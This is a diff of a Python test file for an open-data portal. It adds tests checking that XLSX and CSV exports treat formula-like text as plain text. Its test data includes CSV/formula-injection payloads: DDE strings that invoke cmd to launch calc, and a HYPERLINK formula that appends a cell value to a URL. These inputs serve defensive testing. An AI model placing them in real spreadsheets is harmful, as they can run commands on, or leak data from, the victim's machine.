@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 from mutuelle.app import create_app
 from mutuelle.core.config import Settings
 
-from http_testing import LOOPBACK  # type: ignore[import-not-found]
+from http_testing import LOOPBACK, admin_key  # type: ignore[import-not-found]
 
 EXPORTS = "/api/explore/v2.1/catalog/datasets/offres/exports"
 
@@ -78,8 +78,9 @@ def test_bad_query_in_an_export_fails_before_streaming(api: TestClient) -> None:
 @pytest.fixture(scope="module")
 def big(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
     home = tmp_path_factory.mktemp("big")
-    client = TestClient(create_app(Settings(home=home, duckdb_memory_limit="512MB")), client=LOOPBACK,
-                        raise_server_exceptions=False)
+    settings = Settings(home=home, duckdb_memory_limit="512MB")
+    client = TestClient(create_app(settings), client=LOOPBACK, raise_server_exceptions=False,
+                        headers=admin_key(settings))
     client.post("/api/organisations", json={"name": "T", "slug": "t"})
     client.post("/api/datasets", json={"organisation": "t", "title": "Grand", "slug": "grand"})
     body = "n;pair\n" + "".join(f"{i};{'oui' if i % 2 == 0 else 'non'}\n" for i in range(1, 25_001))
@@ -117,3 +118,57 @@ def test_cursor_with_order_by_pages_in_order(big: TestClient) -> None:
 def test_a_forged_cursor_is_refused(big: TestClient) -> None:
     response = big.get("/api/explore/v2.1/catalog/datasets/grand/records", params={"after": "not-a-cursor"})
     assert response.status_code == 400 and "cursor" in response.json()["message"]
+
+
+# --- spreadsheets: text stays text ----------------------------------------------------------
+
+TRICKY = ['=HYPERLINK("http://example.org/?"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-1+1",
+          "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2", "#N/A", "tab\there", "bell\x07"]
+
+
+@pytest.fixture(scope="module")
+def tricky(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
+    """A portal with a dataset whose text cells look like formulas."""
+    home = tmp_path_factory.mktemp("tricky")
+    settings = Settings(home=home, duckdb_memory_limit="512MB")
+    client = TestClient(create_app(settings), client=LOOPBACK, raise_server_exceptions=False,
+                        headers=admin_key(settings))
+    client.post("/api/organisations", json={"name": "T", "slug": "t"})
+    client.post("/api/datasets", json={"organisation": "t", "title": "Piégé", "slug": "piege"})
+    rows = io.StringIO()
+    writer = csv.writer(rows, delimiter=";", lineterminator="\n")
+    writer.writerow(["n", "montant", "texte"])
+    writer.writerows([i + 1, f"{(i + 1) * 1.5}".replace(".", ","), text]
+                     for i, text in enumerate(TRICKY))
+    created = client.post("/api/datasets/piege/versions",
+                          files={"file": ("p.csv", rows.getvalue().encode())})
+    assert created.status_code == 201, created.text
+    client.post("/api/datasets/piege/publish")
+    return client
+
+
+def test_xlsx_exports_write_formula_like_text_as_text(tricky: TestClient, tmp_path: Path) -> None:
+    import zipfile
+
+    response = tricky.get("/api/explore/v2.1/catalog/datasets/piege/exports/xlsx",
+                          params={"order_by": "n"})
+    assert response.status_code == 200, response.text
+    path = tmp_path / "piege.xlsx"
+    path.write_bytes(response.content)
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    rows = list(load_workbook(path).active.iter_rows(min_row=2))
+    assert len(rows) == len(TRICKY)
+    for (n, amount, text), source in zip(rows, TRICKY, strict=True):
+        # XML holds no control character: Excel's own escape, which spreadsheet programs decode
+        assert (text.value, text.data_type) == (source.replace("\x07", "_x0007_"), "s")
+        assert isinstance(n.value, int) and n.data_type == "n"
+        assert amount.value == pytest.approx(n.value * 1.5) and amount.data_type == "n"
+
+
+def test_csv_exports_keep_formula_like_text_as_it_is(tricky: TestClient) -> None:
+    response = tricky.get("/api/explore/v2.1/catalog/datasets/piege/exports/csv",
+                          params={"order_by": "n"})
+    rows = list(csv.reader(io.StringIO(response.text), delimiter=";"))
+    assert [r[2] for r in rows[1:]] == TRICKY
